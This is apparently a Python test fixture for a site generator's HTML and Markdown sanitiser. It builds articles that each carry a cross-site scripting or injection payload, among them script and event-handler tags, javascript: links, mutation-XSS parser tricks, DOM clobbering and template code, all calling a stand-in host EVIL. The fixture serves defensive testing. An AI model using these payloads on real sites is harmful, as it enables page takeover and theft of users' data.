"""What a contributor could write to take over a page: texts whose scripts and requests all lead to another host.

`EVIL` stands for that host, such as `127.0.0.1:8001`: whoever listens there hears of every attack that worked.
"""

# ruff: noqa: E501 - an attack is read as it is written

from __future__ import annotations

from collections.abc import Mapping

from tests.sites import article

RUN = "new Image().src='http://EVIL/run'"

ATTACKS: Mapping[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": "<script src='http://EVIL/x.js'></script><script type=module src=//EVIL/y.js></script>",
    "script in an odd spelling": f"<ScRiPt\n/x>{RUN}</sCrIpT >",
    "script, put together by what is taken out": f"<scr<script>ipt>{RUN}</scr</script>ipt> <scr<!-- -->ipt>{RUN}</script>",
    "events": f'<img src=x onerror="{RUN}"><details open ontoggle="{RUN}"><body onload="{RUN}"><b onfocus="{RUN}" '
    f'tabindex=0 autofocus>x</b><p onmouseover="{RUN}">y</p>',
    "event without spaces": f"<img/src='x'/onerror={RUN}>",
    "event in a picture's words": f'![x" onerror="{RUN}](/a.png) ![y](/a.png \'z" onerror="{RUN}\')',
    "style": "<style>@import '//EVIL/a.css'; body { background: url(//EVIL/b.png) }</style>",
    "style attribute": "<b style=\"background:url('http://EVIL/c.png');position:fixed;inset:0\">x</b>",
    "stylesheet": "<link rel=stylesheet href=//EVIL/d.css><link rel=prefetch href=//EVIL/e><link rel=preconnect href=//EVIL>",
    "javascript": f"[x](javascript:{RUN}) <a href=\"javascript:{RUN}\" autofocus>y</a> <javascript:{RUN}>",
    "javascript in disguise": "<a href='java\tscript:alert(1)'>a</a> <a href=' &#1;javascript:alert(1)'>b</a> "
    "<a href='&#106;ava&#x73;cript&colon;alert(1)'>c</a> [d](JaVaScRiPt:alert(1)) <a href='java&#0;script:x'>e</a> "
    "<a href='javascript&Tab;:x'>f</a> <a href='java&NewLine;script:x'>g</a> [h](java&#10;script:x)",
    "data and vbscript": "[x](data:text/html,<script>1</script>) <a href=vbscript:x>y</a> ![z](data:image/svg+xml,<svg/>)",
    "pictures from elsewhere": "![x](http://EVIL/f.png) <img src=//EVIL/g.png srcset='//EVIL/h.png 2x'> "
    "<img src='/\\EVIL/i.png'> <img src='\\\\EVIL/j.png'> <img src='/\t/EVIL/k.png'> <img src=&#47;/EVIL/l.png> "
    "<picture><source srcset=//EVIL/m.png><img src=//EVIL/n.png></picture> <input type=image src=//EVIL/o.png>",
    "old pictures": "<table background=//EVIL/p.png><td background=//EVIL/q.png>x</table><body background=//EVIL/r.png>",
    "media": "<video src=//EVIL/s poster=//EVIL/t autoplay></video><audio src=//EVIL/u autoplay></audio><track src=//EVIL/v>",
    "svg": f"<svg onload=\"{RUN}\"><script>{RUN}</script><image href=//EVIL/w /><use href='//EVIL/x#a'/>"
    "<a xlink:href='javascript:alert(1)'><text>y</text></a><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg with a foreign object": f"<svg><foreignObject><iframe srcdoc=\"<script>{RUN}</script>\"></iframe></foreignObject></svg>",
    "mathml": f"<math href='javascript:{RUN}'><mi xlink:href='javascript:{RUN}'>x</mi><maction actiontype=statusline>y"
    "</maction></math>",
    "frames": f"<iframe src=//EVIL/aa></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe><frameset><frame src=//EVIL/bb>",
    "objects": "<object data=//EVIL/cc></object><embed src=//EVIL/dd><applet code=//EVIL/ee></applet>",
    "meta": "<meta http-equiv=refresh content='0;url=http://EVIL/ff'><meta name=referrer content=unsafe-url>",
    "base": "<base href='//EVIL/' target=x>",
    "forms": f"<form action=//EVIL/gg><input name=password><button formaction='javascript:{RUN}'>Go</button></form>"
    f"<select onfocus=\"{RUN}\" autofocus></select><textarea autofocus onfocus=\"{RUN}\">x</textarea><isindex action=//EVIL>",
    "portals and dialogs": f"<portal src=//EVIL/hh></portal><dialog open onclose=\"{RUN}\">x</dialog><p popover>y</p>",
    "clobbering": "<a id=document name=cookie>x</a><img name=body><b id=main>y</b><form id=location name=top></form>"
    "<i id=__proto__>z</i><a id=defaultView><a id=defaultView name=fetch href=cid:x>w</a>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template": f"<template><script>{RUN}</script></template><div><template shadowrootmode=open><slot></slot></template></div>",
    "styles in svg": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "styles in mathml": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    "form in mathml": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "comment tricks": f"<!--><img src=x onerror={RUN}>--> <!-- --!><script>{RUN}</script> --> <!--a--!><img src onerror={RUN}>",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "CDATA": f"<![CDATA[<script>{RUN}</script>]]> <svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "processing instruction": f"<?xml-stylesheet href='//EVIL/ii'?><?php <script>{RUN}</script> ?><!ENTITY x SYSTEM '//EVIL/jj'>",
    "raw text": f'<textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea><title><a title="</title>'
    f'<img src=x onerror={RUN}>"></title><xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    "listing": f"<listing>&lt;img src=x onerror={RUN}&gt;</listing><noembed><img title='</noembed><img src onerror={RUN}>'>",
    "plaintext": "<plaintext>everything after this",
    "quotes that never close": f"<a href='x\" onclick={RUN}> <b title=\"<script>{RUN}</script>",
    "comment that never closes": "before <!-- everything after this",
    "CDATA that never closes": "before <![CDATA[ everything after this",
    "tag that never ends": "before <a href=x title='everything after this",
    "script that never closes": "before <script>everything after this",
    "style that never closes": "before <style>everything after this {",
    "svg that never closes": "before <svg><desc><table>everything after this",
    "select that never closes": "before <select><option>everything after this",
    "tags that never close": "<b><i><table><tr><td><ul><li><details><a href=/x>everything after this",
    "fence that never closes": "```html\n<script>everything after this",
    "more closed than open": "</p></div></article></main></body></html><footer>mine</footer></table></td></b>",
    "template code": "{{ 7 * 7 }} {% include 'base.html' %} {{ site.__class__ }} {# gone #} {% raw %}",
    "end of XML": "]]> ]]&gt; <![CDATA[ ]]> &lt;/content:encoded>",
    "separators and bidi": "a\u2028b\u2029c \u202enever closed \u2067nor this \u2066or this <bdo dir=rtl>x <p dir=rtl>y",
    "code": f"`<img src onerror={RUN}>`\n\n    <script>{RUN}</script>\n\n```\"><script>{RUN}</script>\nx\n```",
    "footnote": f"x[^<script>] [^\"onclick=x]\n\n[^<script>]: <script>{RUN}</script>\n[^\"onclick=x]: y",
    "abbreviation": f'*[HTML]: "><img src=x onerror={RUN}>\n\nHTML',
    "heading": f'# <img src=x onerror={RUN}>\n\n## "onmouseover={RUN} x="',
    "reference": f'[x][1] ![y][1]\n\n[1]: <javascript:{RUN}> "\' onload={RUN}"',
    "table": f"| <script>{RUN}</script> | b |\n|:-:|--|\n| <td style='x' onclick={RUN}> | `|` <img src=//EVIL/kk> |",
    "e-mail": f"<x@y.z\"onclick={RUN}> <mailto:a@b.c?subject=<script>{RUN}</script>>",
}  # fmt: skip

# Fields are attacked too, in one more article.
HOSTILE_FIELD = "</title></script><script>new Image().src='http://EVIL/field'</script>\\\"'><img src=x onerror=alert(1)> {{ 7 * 7 }} <!--<script>"


def hostile_archive(evil: str) -> dict[str, str | bytes]:
    """An article for each attack, and a page beside them that must not suffer."""
    files: dict[str, str | bytes] = {
        f"articles/{number:02}.md": article(f'"{name}"', f"2024-01-{number % 28 + 1:02}", body.replace("EVIL", evil))
        for number, (name, body) in enumerate(ATTACKS.items())
    }
    field = f'"{HOSTILE_FIELD.replace("EVIL", evil)}"'
    keys = dict.fromkeys(("description", "author", "outlet", "image_alt", "image_credit", "mood"), field)
    files["articles/fields.md"] = article(field, image="/assets/a.png", **keys)
    files["incidents/fields.md"] = f"---\ntitle: {field}\nactor: {field}\nvendor: {field}\n---\n"
    files["assets/a.png"] = b"not really"
    return files


def address_of(number: int) -> str:
    return f"/articles/2024/01/{number:02}/"
